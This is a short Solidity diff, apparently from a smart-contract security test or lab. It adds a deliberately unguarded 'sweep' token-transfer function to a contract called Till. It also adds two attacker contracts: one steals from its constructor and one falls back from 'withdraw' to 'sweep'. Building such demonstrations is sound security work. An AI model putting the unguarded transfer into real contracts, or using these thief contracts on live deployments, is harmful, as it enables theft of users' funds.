@@ -20,8 +20,32 @@ contract Till is SelectorBreaker {
         require(ok && (answer.length == 0 || abi.decode(answer, (bool))), "transfer failed");
     }
 
+    /// The same hole, and no guard is on it.
+    function sweep(uint256 amount) external {
+        (bool ok,) = token.call(abi.encodeWithSignature("transfer(address,uint256)", msg.sender, amount));
+        require(ok, "transfer failed");
+    }
+
     function pay(uint256 amount) external {
         owed -= amount;
+    }
+}
+
+/// Steals while it is being created.
+contract BornThief {
+    constructor(Till till, uint256 amount) {
+        till.withdraw(amount);
+    }
+}
+
+/// Steals when it is told, by what is open: first by the front door, then by the back door if there is one for it.
+contract Thief {
+    function steal(Till till, uint256 amount, bool isStubborn) external {
+        try till.withdraw(amount) {}
+        catch {
+            require(isStubborn, "shut");
+            till.sweep(amount);
+        }
     }
 }
 
